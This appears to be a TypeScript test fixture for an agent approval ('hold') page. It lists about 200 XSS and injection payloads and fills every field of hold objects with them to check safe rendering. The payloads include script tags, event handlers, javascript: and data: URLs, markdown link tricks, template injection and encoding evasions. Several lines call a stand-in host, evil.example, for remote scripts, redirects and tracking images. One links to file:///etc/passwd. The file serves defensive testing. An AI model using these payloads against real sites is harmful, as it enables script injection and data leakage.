// Two hundred texts that break into pages which let them, and questions that hold them in every field that an agent or a
// person can fill.
import type { HoldView } from '../../../src/contract/holds/hold.ts';
import { aHold } from './page-server.ts';

/** What would run, if it ran. */
const run = 'alert(1)';

const elements = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg/onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\u0009=${run}>`,
  `<img srcset="x" onerror="${run}">`,
  `<image href=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=javascript:${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<select autofocus onfocus=${run}></select>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form action="javascript:${run}"><button>Approve</button></form>`,
  `<button formaction="javascript:${run}">Approve</button>`,
  `<a href="javascript:${run}">Approve</a>`,
  `<a href="java\u0009script:${run}">Approve</a>`,
  `<a href="&#106;avascript:${run}">Approve</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>body{display:none}</style>`,
  `<div style="background:url(https://evil.example/p.png)">x</div>`,
  `<div style="position:fixed;inset:0" onmouseover=${run}>x</div>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<custom-element onclick=${run}>x</custom-element>`,
];

const markdown = [
  `[ok](javascript:${run})`,
  `[ok](JaVaScRiPt:${run})`,
  `[ok](java&Tab;script:${run})`,
  `[ok](data:text/html,<script>${run}</script>)`,
  `[ok](vbscript:${run})`,
  `[ok](file:///etc/passwd)`,
  `[ok](//evil.example/x)`,
  `[ok][r]\n\n[r]: javascript:${run}`,
  `![x](https://evil.example/p.png)`,
  `![x](javascript:${run})`,
  `![x](data:image/svg+xml,<svg onload=${run}>)`,
  `<javascript:${run}>`,
  `[x](<javascript:${run}> "title")`,
  `[x](https://evil.example/" onmouseover="${run})`,
  `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `> <svg onload=${run}>`,
  `# <img src=x onerror=${run}>`,
];

const schemes = [
  `javascript:${run}`,
  `JAVASCRIPT:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\nscript:${run}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `blob:https://evil.example/x`,
  `https://evil.example/<script>${run}</script>`,
  `https://hold.example@evil.example/`,
];

const odd = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `__proto__`,
  `constructor`,
  `';${run};//`,
  `";${run};//`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  `&lt;img src=x onerror=${run}&gt;`,
  `\u2028${run}\u2029`,
  `\u202E<img src=x onerror=${run}>`,
  `\uFEFF<script>${run}</script>`,
  `＜img src=x onerror=${run}＞`,
];

/** What closes the element that a text is in. */
const closers = ['">', "'>", '</textarea>', '</title>', '</style>', '</script>', '-->', ']]>'];
const broken = closers.flatMap((closer) => elements.slice(0, 18).map((element) => closer + element));

export const hostileTexts: string[] = [...elements, ...markdown, ...schemes, ...odd, ...broken].slice(0, 200);

const kinds = ['form', 'confirmation', 'tool_call', 'authorization', 'text', 'operator'] as const;

/** An object whose names and values are the texts. */
const mapOf = (texts: readonly string[]): Record<string, string> =>
  Object.fromEntries(texts.map((text) => [text, text]));

/** One question a kind, open and decided, with all of these texts in every field. */
export function hostileHolds(texts: readonly string[]): HoldView[] {
  const line = texts.join(' ');
  const block = texts.join('\n\n');
  const at = new Date(0).toISOString();
  const choice = { title: line, description: block, oneOf: texts.map((text) => ({ const: text, title: text })) };
  const properties = Object.fromEntries(
    texts.flatMap((text, index) => [
      [text, { type: 'string', title: text, description: text, default: text, examples: [text], pattern: text }],
      [`choice${index}`, choice],
      [`yes${index}`, { type: 'boolean', title: text, description: text }],
      [
        `rows${index}`,
        { type: 'array', title: text, items: { type: 'object', properties: { [text]: { title: text } } } },
      ],
    ]),
  );
  const schemas: Record<(typeof kinds)[number], HoldView['schema']> = {
    form: { type: 'object', title: line, description: block, properties, required: texts },
    confirmation: {
      type: 'object',
      properties: { confirmed: { type: 'boolean', title: line, description: block } },
      required: ['confirmed'],
    },
    tool_call: {
      type: 'object',
      properties: {
        approved: { type: 'boolean', title: line },
        reason: { type: 'string', title: line },
        editedArgs: {},
      },
      required: ['approved'],
    },
    authorization: { type: 'object', properties: { credential: { type: 'string', title: line, format: 'password' } } },
    text: { type: 'object', properties: { text: { type: 'string', title: line, description: block } } },
    operator: { type: 'object', properties: { choice }, required: ['choice'] },
  };
  const file = (name: string, index: number): HoldView['context']['files'][number] => ({
    id: `f${index}`,
    source: index % 2 === 0 ? 'question' : 'artifact',
    name,
    mediaType: index % 3 === 0 ? name : 'image/svg+xml',
    size: 5,
    url: index % 3 === 1 ? null : `/api/holds/h/files/f${index}`,
    uri: name,
    digest: name,
    omitted: null,
  });
  return kinds.flatMap((kind, nth) =>
    [true, false].map((isOpen, half) =>
      aHold(nth * 2 + half + 1, {
        kind,
        title: line,
        lead: line,
        headline: line,
        quotation: { by: 'bob', words: line },
        values: texts.map((text) => ({ name: text, value: text })),
        message: block,
        schema: schemas[kind],
        defaults: kind === 'tool_call' ? { editedArgs: mapOf(texts) } : mapOf(texts),
        context: {
          conversation: block,
          artifacts: texts.map((text, index) => ({
            id: text,
            name: text,
            url: `/api/holds/h/artifacts/${index}`,
            digest: text,
          })),
          toolArgs: { ...mapOf(texts), nested: { [line]: [...texts] } },
          data: texts.map((text, index) => ({ id: `d${index}`, name: text, digest: text, data: { [text]: text } })),
          files: texts.map(file),
          whole: [],
          digits: [],
          dialectDigest: line,
        },
        votes: { have: 1, need: 2, by: texts.map((text) => ({ by: text, at, values: mapOf([text]) })) },
        status: isOpen ? 'open' : 'decided',
        audience: texts.map((text) => `user:${text}`),
        policy: line,
        requester: line,
        alsoRequesters: [...texts],
        claim: isOpen ? { by: line, at } : null,
        reassignAsks: texts.map((text) => ({ by: text, at, note: text })),
        ladder: texts.map((text) => ({ at, do: 'escalate', to: [`role:${text}`], replace: false, doneAt: null })),
        supervisors: texts.map((text) => ({ agent: text, at, until: at, doneAt: at, why: text })),
        moves: texts.map((text) => ({ at, by: text, to: [`user:${text}`], note: text })),
        ended: isOpen ? null : { by: line, at, why: 'approved' },
        errors: mapOf(texts),
        links: texts.map((text) => ({ url: text, title: text })),
        tool: kind === 'tool_call' ? { callId: line, name: line, isEditable: true } : null,
        dialect: line,
        interruptId: line,
        threadId: line,
        mayDecide: isOpen,
        decision: isOpen
          ? null
          : {
              by: line,
              at,
              status: 'resolved',
              values: mapOf(texts),
              reason: block,
              source: 'page',
              digest: line,
              seenDigest: line,
              credential: line,
              actor: line,
            },
      }),
    ),
  );
}
